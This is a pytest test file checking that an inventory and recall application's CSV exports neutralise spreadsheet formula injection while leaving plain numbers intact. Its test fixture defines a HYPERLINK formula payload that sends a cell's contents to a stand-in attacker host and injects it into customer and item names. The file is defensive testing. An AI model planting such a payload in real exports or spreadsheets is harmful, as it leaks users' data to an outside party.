"""No CSV export hands a spreadsheet a live formula; plain numbers stay numbers (reports/csv_safe.py)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
import sqlalchemy as sa

from lotline.kpis import export as kpi_export
from lotline.kpis.queries import SnapshotRow
from lotline.models import Customer
from lotline.reports import csv_safe
from tests.reports import fsma204_reference as fsma204
from tests.reports.test_fsma204 import EVENTS
from tests.worlds import build_world

LEADING = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = "HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"


@pytest.mark.parametrize("lead", LEADING, ids=repr)
def test_a_cell_starting_a_formula_gets_a_quote_in_front(lead):
    assert csv_safe.cell(lead + PAYLOAD) == "'" + lead + PAYLOAD
    assert csv_safe.value_cell(lead + "1+1") == "'" + lead + "1+1"


@pytest.mark.parametrize("text", ["-5", "-0.25", "-480.000000", "0", "12", "7.5"])
def test_plain_numbers_stay_numbers(text):
    assert csv_safe.cell(text) == text


@pytest.mark.parametrize("text", ["-5+cmd", "-1e3", "--5", "- 5", "+5", "-5.", "@5", "-\u0663", "-1\uff12"])
def test_text_that_only_starts_like_a_number_is_neutralised(text):
    assert csv_safe.cell(text) == "'" + text


def test_other_text_and_empty_values_are_unchanged():
    assert [csv_safe.cell(t) for t in ("Café", "a=b", "x-1", "", "'quoted")] == [
        "Café",
        "a=b",
        "x-1",
        "",
        "'quoted",
    ]
    assert csv_safe.value_cell(None) == "" and csv_safe.value_cell(Decimal("-5")) == "-5"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("lead", LEADING, ids=repr)
def test_the_fsma_204_csv_neutralises_every_leading_formula_character(lead):
    evil = lead + PAYLOAD
    events = {k: [dict(r) for r in rows] for k, rows in EVENTS.items()}
    events["shipping"][0]["customer_name"] = evil
    events["receiving"][0]["item_name"] = evil
    events["receiving"][0]["quantity"] = Decimal("-5")  # an adjustment-like negative stays a number
    table = _cells(fsma204.to_csv(fsma204.rows(events)))
    header, body = table[0], table[1:]
    receiving = next(r for r in body if r[0] == "Receiving")
    shipping = next(r for r in body if r[0] == "Shipping" and r[-1] == "SO-2")
    assert receiving[header.index("Product description")] == "'" + evil
    assert receiving[header.index("Quantity")] == "-5"
    assert shipping[header.index("Immediate previous source / subsequent recipient")].startswith("'" + evil)
    for row in body:
        for value in row:
            assert not value.startswith(tuple(LEADING)) or csv_safe._PLAIN_NUMBER.fullmatch(value), value


@pytest.mark.parametrize("lead", LEADING, ids=repr)
def test_the_trace_csv_neutralises_every_leading_formula_character(cli, session, lead):
    build_world(session)
    evil = lead + PAYLOAD
    session.execute(sa.update(Customer).where(Customer.code == "ALPHA").values(name=evil))
    session.flush()
    r = cli("trace", "forward", "F-1", "--csv")
    assert r.code == 0, r.err
    rows = list(csv.DictReader(io.StringIO(r.out)))
    alpha = next(x for x in rows if x["record"] == "shipment" and x["customer_code"] == "ALPHA")
    assert alpha["customer_name"] == "'" + evil
    assert alpha["quantity"] == "30"
    for row in rows:
        for value in row.values():
            assert not value.startswith(tuple(LEADING)) or csv_safe._PLAIN_NUMBER.fullmatch(value), value


@pytest.mark.parametrize("lead", LEADING, ids=repr)
def test_the_kpi_csv_neutralises_every_leading_formula_character(lead):
    evil = lead + PAYLOAD
    row = SnapshotRow(
        kpi_name="average_on_hand",
        dimensions={"item_id": "7a000000-0000-0000-0000-000000000001"},
        value=Decimal("-5.000000"),
        units=evil,
        null_reason=None,
        numerator=Decimal("-5"),
        denominator=Decimal(1),
        sku=evil,
        location=evil,
        customer=None,
    )
    header, cells = _cells(kpi_export.to_csv("run-1", [row]))
    got = dict(zip(header, cells, strict=True))
    assert got["sku"] == got["location"] == got["units"] == "'" + evil
    assert (got["value"], got["numerator"], got["denominator"]) == ("-5.000000", "-5", "1")
    assert got["customer"] == "" and got["kpi"] == "average_on_hand"


@pytest.mark.parametrize("lead", LEADING, ids=repr)
def test_the_database_rendered_fsma_204_csv_neutralises_every_leading_formula_character(session, lead):
    from lotline.recalls import service as recalls  # noqa: PLC0415
    from lotline.recalls import strategy  # noqa: PLC0415
    from lotline.recalls.flows.drill import drill_strategy  # noqa: PLC0415
    from lotline.recalls.schemas import CaseIn, TargetIn  # noqa: PLC0415
    from lotline.reports import fsma204_export  # noqa: PLC0415

    build_world(session)
    evil = lead + PAYLOAD
    session.execute(sa.update(Customer).where(Customer.code == "BETA").values(name=evil))
    session.flush()
    case = recalls.create_case(session, CaseIn(severity="high", summary="csv safety"))
    recalls.add_target(session, case.id, TargetIn(lot="F-1"))
    strategy.set_strategy(session, case, drill_strategy(["F-1"]))
    recalls.activate(session, case.id, signed=False)
    recalls.compute_run(session, case.id)
    done = fsma204_export.export(session, fsma204_export.run_sources(session, case.id), xlsx=False)
    assert done.csv is not None
    table = _cells(done.csv.decode())
    header, body = table[0], table[1:]
    beta = next(r for r in body if r[header.index("Reference document number")] == "SO-2")
    assert beta[header.index("Immediate previous source / subsequent recipient")] == f"'{evil} (BETA)"
    for row in body:
        for value in row:
            assert not value.startswith(tuple(LEADING)) or csv_safe._PLAIN_NUMBER.fullmatch(value), value
